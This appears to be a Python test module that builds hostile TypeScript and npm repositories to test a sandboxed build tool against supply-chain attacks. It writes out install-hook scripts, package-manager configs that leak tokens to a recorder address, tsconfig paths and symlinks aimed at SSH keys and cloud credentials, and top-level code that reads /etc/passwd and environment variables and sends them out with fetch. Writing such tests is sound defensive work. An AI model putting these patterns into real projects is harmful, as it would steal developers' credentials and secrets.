"""Traps for the type checker, the bundler and npm."""

from __future__ import annotations

import json

from repositories.making import TYPESCRIPT, Repository, trap

IMPORTING = 'import value from "pkg"\nexport function main(): unknown { return value }\n'


def _workspace(made: Repository, text: str = TYPESCRIPT) -> None:
    made.write("capsule.toml", '[workspace]\nmembers = ["main.ts"]\n')
    made.write("main.ts", text)


@trap("run", "everything", file="main.ts")
def scripts_of_a_package_json(made: Repository) -> None:
    """Scripts of every moment, a manager of packages by address, hooks of Node."""
    _workspace(made)
    evil = made.script("evil")
    moments = ("preinstall", "install", "postinstall", "prepare", "build", "test")
    package = {
        "name": "evil",
        "scripts": dict.fromkeys(moments, str(evil)),
        "packageManager": f"npm@{made.operator.recorder.address}/$GITHUB_TOKEN.tgz",
        "dependencies": {"evil": f"{made.operator.recorder.address}/evil.tgz"},
        "workspaces": ["../**"],
        "browser": {"@capsule-run/sdk": "../outside/secret.txt"},
        "imports": {"#x": "../outside/secret.txt"},
    }
    made.write("package.json", json.dumps(package))
    made.commit()
    made.write("main.ts", TYPESCRIPT + "// changed\n")


@trap("tasks", "run", "everything", file="main.ts")
def settings_of_package_managers(made: Repository) -> None:
    """Each names a program, an index that takes variables, or both."""
    _workspace(made)
    evil = made.script("evil")
    address = made.operator.recorder.address
    text = f"registry={address}/${{NPM_TOKEN}}/\nnode-options=--require {evil}\nscript-shell={evil}\n"
    made.write(".npmrc", text)
    made.write(".yarnrc", f'registry "{address}/$NPM_TOKEN"\nyarn-path "{evil}"\n')
    made.write(".yarnrc.yml", f"yarnPath: {evil}\nnpmRegistryServer: {address}\n")
    made.write(".pnpmfile.cjs", f"require('child_process').execSync('{evil}')\n")
    made.write("bunfig.toml", f'preload = ["{evil}"]\n[install]\nregistry = "{address}/$NPM_TOKEN"\n')
    made.write("package-lock.json", json.dumps({"packages": {"x": {"resolved": f"{address}/x.tgz"}}}))
    made.write("package.json", '{"dependencies": {"x": "*"}}')
    made.commit()
    made.write("main.ts", TYPESCRIPT + "// changed\n")


@trap("everything", "run", file="main.ts", looks=("", ".ssh"))
def a_tsconfig_that_aims_the_type_checker(made: Repository) -> None:
    """Plugins, files to write, roots and paths outside of the repository."""
    _workspace(made, 'import "stolen"\n' + TYPESCRIPT)
    made.link("out", made.operator.outside)
    home = str(made.operator.home)
    options = {
        "plugins": [{"name": "../evil.js"}],
        "generateTrace": "./out",
        "generateCpuProfile": "./out/p",
        "outDir": "./out",
        "tsBuildInfoFile": "./out/x",
        "incremental": True,
        "declaration": True,
        "declarationDir": "./out",
        "typeRoots": [home, "/etc"],
        "types": ["../home/.ssh/id_rsa"],
        "baseUrl": home,
        "paths": {"stolen": [f"{home}/.ssh/id_rsa", "/etc/passwd"], "*": [f"{home}/*"]},
        "rootDirs": ["/", home],
    }
    made.write("tsconfig.json", json.dumps({"compilerOptions": options, "include": [f"{home}/**/*"]}))
    made.write("evil.js", "require('fs').writeFileSync('out/ran', '')\n")
    made.commit()
    made.write("main.ts", 'import "stolen"\n' + TYPESCRIPT + "// changed\n")


@trap("everything", "tasks", file="main.ts")
def a_tsconfig_that_extends_files_of_the_operator(made: Repository) -> None:
    """By a path, a link and a package."""
    _workspace(made)
    made.link("node_modules/base/tsconfig.json", made.operator.home / ".aws/credentials")
    made.link("base.json", made.operator.home / ".docker/config.json")
    extended = ["./base.json", "base/tsconfig.json", f"{made.operator.home}/.docker/config.json"]
    made.write("tsconfig.json", json.dumps({"extends": extended, "references": [{"path": "../home"}]}))
    made.commit()
    made.write("main.ts", TYPESCRIPT + "// changed\n")


@trap("tasks", "run", "build", file="main.ts", looks=("",))
def packages_that_lead_out(made: Repository) -> None:
    """`exports`, `main` and links of packages that name files of the operator's."""
    home = made.operator.home
    names = ("one", "two", "three", "four")
    made.write("main.ts", "".join(f'import "{name}"\n' for name in names) + TYPESCRIPT)
    made.write("node_modules/one/package.json", '{"name": "one", "exports": "./../../../home/.ssh/id_rsa"}')
    made.write("node_modules/two/package.json", json.dumps({"name": "two", "main": f"{home}/.netrc"}))
    made.link("node_modules/three/index.js", home / ".bashrc")
    made.link("node_modules/four", home)


@trap("run", "build", file="main.ts", looks=("", ".ssh", ".docker"))
def imports_of_files_of_the_operator(made: Repository) -> None:
    """As text, as data, by an absolute path, by a URL, and through a link."""
    home = made.operator.home
    made.link("link.json", home / ".docker/config.json")
    lines = (
        f'import a from "{home}/.docker/config.json"\nimport b from "./link.json"\n'
        f'import c from "../home/.ssh/id_rsa" with {{ type: "text" }}\nimport d from "file://{home}/.netrc"\n'
        f'import e from "{made.operator.recorder.address}/x.js"\n'
    )
    made.write("main.ts", f"{lines}export function main() {{ return [a, b, c, d, e] }}\n")


@trap("tasks", "run", "build", file="main.ts")
def source_maps_that_never_end(made: Repository) -> None:
    """A map that is a device, one that is a pipe, and one of the operator's files."""
    names = ("zero", "pipe", "home")
    made.write("main.ts", "".join(f'import "{name}"\n' for name in names) + TYPESCRIPT)
    for name in names:
        made.write(f"node_modules/{name}/package.json", f'{{"name": "{name}", "main": "index.js"}}')
        made.write(f"node_modules/{name}/index.js", "export default 1\n//# sourceMappingURL=index.js.map\n")
    made.link("node_modules/zero/index.js.map", "/dev/zero")
    made.pipe("node_modules/pipe/index.js.map")
    made.link("node_modules/home/index.js.map", made.operator.home / ".netrc")


@trap("tasks", "run", file="main.ts")
def a_bundler_in_node_modules(made: Repository) -> None:
    """The packages that our own tools come from, with programs in them."""
    made.write("main.ts", TYPESCRIPT)
    for name in ("esbuild", "@esbuild/linux-x64", "typescript", "@typescript/native-preview"):
        made.script(f"node_modules/{name}/bin/{name.rpartition('/')[2]}")
        made.script(f"node_modules/{name}/bin/esbuild")
        made.write(f"node_modules/{name}/package.json", f'{{"name": "{name}", "version": "0.0.1"}}')
        made.write(f"node_modules/{name}/lib/main.js", "require('child_process').execSync('../../evil')\n")
    made.write("esbuild.config.js", "require('child_process').execSync('./evil')\n")


@trap("tasks", "everything", file="main.ts")
def a_top_level_that_reads_and_asks(made: Repository) -> None:
    """Code that runs while a snapshot is made."""
    text = (
        'import * as fs from "node:fs"\nlet seen = ""\n'
        f'for (const path of ["/etc/passwd", "{made.operator.home}/.netrc", "/proc/self/environ"])\n'
        "  try { seen += fs.readFileSync(path) } catch {}\n"
        "try { seen += JSON.stringify(process.env) } catch {}\n"
        f'try {{ fetch("{made.operator.recorder.address}/" + seen).catch(() => 0) }} catch {{}}\n'
        "export function main(): string { return seen }\n"
    )
    _workspace(made, text)
    made.commit()
    made.write("main.ts", text + "// changed\n")
